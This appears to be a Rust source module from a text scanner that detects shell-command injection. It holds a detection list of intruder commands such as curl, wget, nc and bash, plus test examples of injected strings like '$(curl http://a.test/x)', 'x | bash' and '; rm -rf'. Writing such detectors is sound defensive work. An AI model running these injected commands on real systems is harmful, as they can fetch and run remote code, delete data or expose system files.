//! Commands for a shell.

use super::bytes::{at, before, ends, has, part, run};
use super::{Family, Found, Kind, Level, Trigger};

/// Commands that an intruder begins with.
const COMMANDS: &[&str] = &[
    "rm",
    "curl",
    "wget",
    "bash",
    "sh",
    "zsh",
    "nc",
    "ncat",
    "python",
    "python3",
    "perl",
    "ruby",
    "powershell",
    "cmd",
    "cat",
    "chmod",
    "chown",
    "whoami",
    "id",
    "uname",
    "ls",
    "echo",
    "ping",
    "sudo",
    "kill",
    "dd",
    "mkfs",
    "eval",
    "exec",
    "scp",
    "ssh",
    "telnet",
    "nslookup",
    "env",
    "base64",
];

pub(super) const SHELL_INJECTION: Kind = Kind::new(
    "shell_injection",
    Family::CodeInjection,
    Level::High,
    Trigger::Exact(&["$(", "&&", "/bin/sh", "/bin/bash", "rm -rf"]),
    shell,
)
.or(Trigger::Bytes(b"`;|"))
.finds("a command (`rm`, `curl`, `cat`, `bash` …) behind `;`, `|`, `&&`, `$(` or between back-ticks, with what a command is written with; `/bin/sh`, `rm -rf`")
.allows("such signs before words: `up; cat lovers`, `a | b`")
.examples(
    &["x; rm -rf /tmp/x", "$(curl http://a.test/x)", "a && wget http://a.test/x", "`whoami`", "x | bash", "run /bin/sh -i", "; cat /etc/hosts"],
    &["prices rose; cat lovers cheered", "a | b | c", "R&D && sales", "$(amount)", "use `length` for texts", "the id; id theft"],
);

fn shell(text: &[u8], place: usize) -> Option<Found> {
    let high = |end: usize| Some(Found::new(place, end, Level::High));
    if has(text, place, b"/bin/") {
        return high(place + 7 + usize::from(has(text, place, b"/bin/bash")) * 2);
    }
    if has(text, place, b"rm -rf") {
        let word = before(text, place).is_some_and(|byte| byte.is_ascii_alphanumeric());
        return if word { None } else { high(place + 6) };
    }
    let sign = if has(text, place, b"$(") || has(text, place, b"&&") { 2 } else { 1 };
    let start = place + sign + run(text, place + sign, 3, |byte| matches!(byte, b' ' | b'\t' | b'|'));
    let length = run(text, start, 12, |byte| byte.is_ascii_lowercase() || byte.is_ascii_digit());
    let end = start + length;
    let name = part(text, start, end);
    if !COMMANDS.iter().any(|command| command.as_bytes() == name) || !ends(text, end) {
        return None;
    }
    let enclosed = match at(text, place)? {
        b'$' => true,
        b'`' => {
            run(text, end, 80, |byte| !matches!(byte, b'`' | b'\n')) < 80
                && part(text, end, end + 80).contains(&b'`')
                && before(text, place).is_none_or(|byte| byte != b'`')
        }
        _ => false,
    };
    // Prose goes on with words, a command with paths, flags, addresses, or it ends.
    let rest = part(text, end, end + 40);
    let argument = rest.trim_ascii_start();
    let shell = matches!(name, b"bash" | b"sh" | b"zsh" | b"whoami" | b"powershell");
    let code = argument.first().is_some_and(|byte| matches!(byte, b'/' | b'-' | b'.' | b'~' | b'$' | b'|' | b'>' | b'"' | b'\'' | b';'))
        || argument.starts_with(b"http")
        || shell && (argument.is_empty() || rest.starts_with(b"\n"));
    let quoted = at(text, place) == Some(b'`') && enclosed && !(shell || code);
    (!quoted && (enclosed && at(text, place) != Some(b'`') || code || enclosed && shell)).then(|| Found::new(place, end, Level::High))
}
